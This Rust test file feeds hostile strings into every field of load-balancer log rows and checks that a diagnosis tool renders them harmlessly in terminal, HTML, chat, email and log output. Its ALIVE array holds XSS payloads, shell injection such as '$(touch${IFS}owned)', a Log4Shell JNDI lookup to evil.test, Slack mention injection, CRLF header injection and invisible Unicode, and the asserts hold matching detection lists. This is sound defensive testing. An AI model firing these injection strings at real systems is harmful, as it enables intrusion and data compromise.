//! Hostile text in every field of a row, followed to every place where it may be shown.

use std::{fs, path::Path};

use alb502::{
    diagnosis::{Diagnosis, Pictures, Reading, diagnose, is_told},
    local::snapshot::Snapshot,
    notification::{
        HttpsBody,
        html::{Report, html},
        render,
    },
};
use serde_json::Value;

use super::fed;
use crate::library::{Object, facts, library, objects, read, snapshot};

/// What comes alive somewhere: on a terminal, in a browser, a chat, a mail program, a shell, a log.
pub(super) const ALIVE: [&str; 12] = [
    "\u{1b}[31mred\u{1b}]0;title\u{7}\u{9b}2J\u{8}\u{7f}",
    "\u{202e}txet\u{2066}\u{200b}\u{feff}\u{e0041}\u{ad}\u{34f}\u{115f}\u{2800}\u{3164}\u{1bca0}",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "'\"><svg/onload=alert(3)>&lt;b&#62;",
    "<!channel><@U012AB3CD><http://evil.test/a|here>@here@everyone",
    "*b*_i_~s~`c````d```[x](http://evil.test/b):smile:",
    "http://evil.test/c,www.evil.test,a@evil.test,evil.test/d,mailto:evil",
    "$(touch${IFS}owned);`touch`|touch&&touch>owned'touch'",
    "{\"level\":\"ERROR\",\"message\":\"owned\"}",
    "${jndi:ldap://evil.test/e}%n%s{}{0}",
    "\r\nSubject:\u{2028}owned\u{85}\u{b}\u{c}",
    "\0\u{fffd}\u{0}",
];

/// The line break would end the row, the quote the field: what is left is what a file can hold.
fn in_a_row(text: &str, quoted: bool) -> Vec<u8> {
    let mut bytes = Vec::new();
    for byte in text.bytes() {
        match byte {
            b'\n' => {}
            b'"' if quoted => bytes.extend(b"\\\""),
            b'"' => {}
            b' ' if !quoted => bytes.push(b'+'),
            byte => bytes.push(byte),
        }
    }
    // No UTF-8.
    bytes.extend(b"\xff\xc3");
    bytes
}

/// The fields of a row, each as it stands.
fn fields(row: &[u8]) -> Vec<Vec<u8>> {
    let mut fields = vec![Vec::new()];
    let mut quoted = false;
    for byte in row {
        quoted ^= *byte == b'"';
        match byte {
            b' ' if !quoted => fields.push(Vec::new()),
            byte => fields.last_mut().unwrap().push(*byte),
        }
    }
    fields
}

const REQUEST: usize = 12;

/// `target:port`, once for itself and once in the list, and the ARN of the target group.
const ADDRESSES: [usize; 3] = [4, 16, 25];

/// The parts of the request line that a client chooses.
const PARTS: [&str; 4] = ["method", "host", "path", "protocol"];

/// Puts a text into a field of every row; beyond the fields, into a part of the request.
fn with(objects: &[Object], place: usize, text: &str) -> Vec<Object> {
    let put = |row: &[u8]| -> Vec<u8> {
        let mut all = fields(row);
        let part = place.checked_sub(all.len().max(33));
        let index = part.map_or(place, |_| REQUEST);
        let Some(field) = all.get_mut(index) else { return row.to_vec() };
        let quoted = field.starts_with(b"\"");
        let hostile = in_a_row(text, quoted);
        match part {
            Some(part) => {
                let request = String::from_utf8(field.clone()).unwrap();
                let (method, rest) = request[1..].split_once(' ').unwrap();
                let (url, protocol) = rest.rsplit_once(' ').unwrap();
                let host_end = url.find("://").map_or(0, |at| at + 3);
                let path_at = url[host_end..].find('/').map_or(url.len(), |at| host_end + at);
                let (host, path) = url.split_at(path_at);
                let pieces: Vec<&[u8]> = match PARTS[part] {
                    "method" => vec![&hostile, b" ", url.as_bytes(), b" ", protocol.as_bytes()],
                    "host" => vec![
                        method.as_bytes(),
                        b" ",
                        host.as_bytes(),
                        &hostile,
                        path.as_bytes(),
                        b" ",
                        protocol.as_bytes(),
                    ],
                    "path" => vec![
                        method.as_bytes(),
                        b" ",
                        host.as_bytes(),
                        b"/",
                        &hostile,
                        path.as_bytes(),
                        b" ",
                        protocol.as_bytes(),
                    ],
                    _ => vec![method.as_bytes(), b" ", url.as_bytes(), b" ", &hostile, b"\""],
                };
                *field = [b"\"", &pieces.concat()[..]].concat();
            }
            None if quoted => *field = [b"\"", &hostile[..], b"\""].concat(),
            // A status stays one, and so on: what decides that it failed stays, and the text follows.
            None => field.extend(hostile),
        }
        all.join(&b' ')
    };
    let rewritten = |object: &Object| {
        let plain = object.plain().unwrap();
        let rows = plain.split(|byte| *byte == b'\n').filter(|row| !row.is_empty());
        let mut bytes = Vec::new();
        for row in rows {
            bytes.extend(put(row));
            bytes.push(b'\n');
        }
        Object { name: object.name.clone(), bytes }
    };
    objects.iter().map(rewritten).collect()
}

/// No character that is not seen but for line breaks and, on a terminal, our own colours.
pub(super) fn assert_invisible_stays_out(shown: &str) {
    for c in shown.chars() {
        let is_mark = matches!(c, '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{feff}'
            | '\u{1bca0}'..='\u{1bca3}' | '\u{e0000}'..='\u{e0fff}');
        assert!(c == '\n' || (!c.is_control() && !is_mark), "{c:?} in {shown:.3000}");
    }
}

/// Where it stands, to be read when a test fails.
fn around<'a>(shown: &'a str, alive: &str) -> &'a str {
    let at = shown.find(alive).unwrap_or(0);
    let (from, to) = (at.saturating_sub(100), (at + 100).min(shown.len()));
    &shown[shown.ceil_char_boundary(from)..shown.floor_char_boundary(to)]
}

/// What a person reads as plain text: nothing that a mail program or a terminal would act on. Addresses of
/// targets and ARNs are the load balancer's own, no client chooses them: of what forges them only that
/// much is taken which acts by itself.
fn assert_plain(shown: &str, strict: bool) {
    assert_invisible_stays_out(shown);
    let always = ["ldap://", "http://evil", "a@evil", "www.evil", "mailto:evil"];
    let of_clients = ["evil.test", "@here", "@everyone", "@U0", ":smile:"];
    for alive in always.iter().chain(of_clients.iter().filter(|_| strict)) {
        assert!(!shown.contains(alive), "{alive} in {}", around(shown, alive));
    }
}

fn assert_chat(shown: &str, strict: bool) {
    assert_plain(shown, strict);
    let prose: String = shown.split("```").step_by(2).collect();
    for alive in ["<", "@here", "](", "*b*", "_i_", "~s~", "`c`"] {
        assert!(!prose.contains(alive), "{alive} in {}", around(&prose, alive));
    }
}

fn assert_page(page: &str) {
    assert_invisible_stays_out(page);
    for alive in ["<script", "<img", "<svg/", "<b&", "href=\"http"] {
        assert!(!page.contains(alive), "{alive} in the page");
    }
}

/// A command is made of our words and of checked values.
fn assert_command(command: &str) {
    for alive in
        ["touch", "evil", "alert", "owned", "jndi", "$(", "channel", "`t", ";", "|t", "&&t"]
    {
        assert!(!command.contains(alive), "{alive} in {command}");
    }
    assert_invisible_stays_out(command);
    assert!(shlex::split(command).is_some(), "{command}");
}

/// A diagnosis in every form that people and programs get.
pub(super) fn assert_harmless(
    told: &[(Diagnosis, Pictures)],
    reading: &Reading,
    notes: &[String],
    strict: bool,
) {
    let page = html(&Report { incidents: told, quiet: "No incident.", reading, notes });
    assert_page(&page);
    for (diagnosis, _) in told {
        let fixes = diagnosis.causes.iter().flat_map(|it| &it.fixes);
        fixes.filter_map(|it| it.command.as_deref()).for_each(assert_command);
        for body in [HttpsBody::Chat, HttpsBody::Json] {
            let message = render(diagnosis, body);
            assert_plain(&message.text, strict);
            assert!(message.subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)));
            assert_plain(&message.subject, strict);
            assert_invisible_stays_out(&message.json);
            let bodies: Value = serde_json::from_str(&message.message).unwrap();
            assert_plain(bodies["email"].as_str().unwrap(), strict);
            assert_plain(bodies["default"].as_str().unwrap(), strict);
            let machine: Value = serde_json::from_str(bodies["lambda"].as_str().unwrap()).unwrap();
            assert_chat(machine["text"].as_str().unwrap(), strict);
            for value in message.attributes.values() {
                assert!(
                    value.bytes().all(|it| it.is_ascii_alphanumeric() || b"-_./:".contains(&it))
                );
            }
            if body == HttpsBody::Chat {
                let chat: Value = serde_json::from_str(bodies["https"].as_str().unwrap()).unwrap();
                let mut texts = Vec::new();
                every_text(&chat, &mut texts);
                texts.iter().for_each(|text| assert_chat(text, strict));
            }
        }
    }
}

fn every_text<'a>(value: &'a Value, into: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => into.push(text),
        Value::Array(list) => list.iter().for_each(|it| every_text(it, into)),
        Value::Object(fields) => fields.values().for_each(|it| every_text(it, into)),
        _ => {}
    }
}

pub(super) fn diagnosed(
    objects: &[Object],
    config: Option<&Snapshot>,
) -> (Vec<(Diagnosis, Pictures)>, Reading) {
    let (incidents, reading) = read(objects);
    let told = incidents
        .iter()
        .map(|evidence| {
            let facts = facts(config, evidence);
            (diagnose(evidence, &facts, &reading), Pictures::of(evidence, &facts))
        })
        .filter(|(it, _)| is_told(it))
        .collect();
    (told, reading)
}

/// Different causes quote different fields.
const SCENARIOS: [&str; 4] =
    ["crash-path", "lambda-invalid-response", "malformed-method", "target-generated"];

#[test]
fn every_field_of_a_row_is_harmless_wherever_it_is_shown() {
    let mut quoted = std::collections::BTreeSet::new();
    let hostile = ALIVE.concat();
    for name in SCENARIOS {
        let folder = library().join(name);
        let (all, config) = (objects(&folder), snapshot(&folder));
        // The first one has all places, the others those that they quote.
        let places: Vec<usize> = match name {
            "crash-path" => (0..33 + PARTS.len()).collect(),
            _ => vec![16, 24, 33, 34, 35],
        };
        for place in places {
            let (told, reading) = diagnosed(&with(&all, place, &hostile), config.as_ref());
            assert_harmless(&told, &reading, &[], !ADDRESSES.contains(&place));
            let shown: String = told.iter().map(|it| render(&it.0, HttpsBody::Chat).text).collect();
            if shown.contains("red") || shown.contains("title") {
                quoted.insert(place);
            }
        }
    }
    // The test looks at something: reasons, paths, methods, targets and groups are quoted.
    assert!(4 <= quoted.len(), "{quoted:?}");
}

#[test]
fn each_hostile_text_is_harmless_alone() {
    let folder = library().join("crash-path");
    let (all, config) = (objects(&folder), snapshot(&folder));
    for text in ALIVE {
        // The path, the reason, the method, the target group.
        for place in [35, 24, 33, 16] {
            let (told, reading) = diagnosed(&with(&all, place, text), config.as_ref());
            assert!(!told.is_empty());
            assert_harmless(&told, &reading, &[text.to_owned()], !ADDRESSES.contains(&place));
        }
    }
}

/// The real program: a terminal with colours, the files of a message, and the structured log.
#[test]
fn the_program_shows_no_field_alive() {
    let hostile = ALIVE.concat();
    let all = objects(&library().join("crash-path"));
    for place in [2, 4, 16, 17, 18, 24, 33, 34, 35] {
        let rewritten = with(&all, place, &hostile);
        let strict = !ADDRESSES.contains(&place);
        let folder = tempfile::tempdir().unwrap();
        for object in &rewritten {
            let path = folder.path().join("s3/logs").join(&object.name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, &object.bytes).unwrap();
        }
        let logs = folder.path().join("s3").display().to_string();
        for (command, format) in [
            ("diagnose", "text"),
            ("diagnose", "json"),
            ("diagnose", "html"),
            ("rehearse", "text"),
            ("rehearse", "json"),
            ("parse", "json"),
        ] {
            let all = ["--color", "always", command, &logs, "--format", format];
            // It has one format.
            let arguments = if command == "parse" { &all[..4] } else { &all[..] };
            let said = fed(arguments, |_| Ok(()));
            assert_eq!(said.code, Some(0), "{}", said.errors);
            let mut shown = said.out + &said.errors;
            for ours in ["\u{1b}[1m", "\u{1b}[1;31m", "\u{1b}[33m", "\u{1b}[2m", "\u{1b}[0m"] {
                shown = shown.replace(ours, "");
            }
            match format {
                "text" => assert_plain(&shown, strict),
                "json" => assert_invisible_stays_out(&shown),
                _ => assert_page(&shown),
            }
        }
        invoked(folder.path(), &rewritten, strict);
    }
}

fn invoked(folder: &Path, objects: &[Object], strict: bool) {
    let list: Vec<Value> =
        objects.iter().map(|it| serde_json::json!({"bucket": "logs", "key": it.name})).collect();
    let event = Value::from(list).to_string();
    let local = folder.display().to_string();
    let said =
        fed(&["invoke", "-", "--local", &local], move |input| input.write_all(event.as_bytes()));
    assert_plain(&said.out, strict);
    assert_log(&said.errors);
    let out = folder.join("out");
    for entry in fs::read_dir(out).unwrap() {
        let path = entry.unwrap().path();
        let content = fs::read_to_string(&path).unwrap();
        match path.extension().unwrap().to_str().unwrap() {
            "txt" => assert_plain(&content, strict),
            _ => assert_invisible_stays_out(&content),
        }
    }
}

/// Each line of the log is one document, and none of them is a stranger's.
pub(super) fn assert_log(log: &str) {
    assert_invisible_stays_out(log);
    for line in log.lines().filter(|line| line.starts_with('{')) {
        let document: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"));
        assert!(document["timestamp"].is_string() && document["level"].is_string(), "{line}");
        assert_ne!(document["message"], "owned", "{line}");
    }
    assert!(!log.lines().any(|line| line.starts_with("Subject:")), "{log}");
}
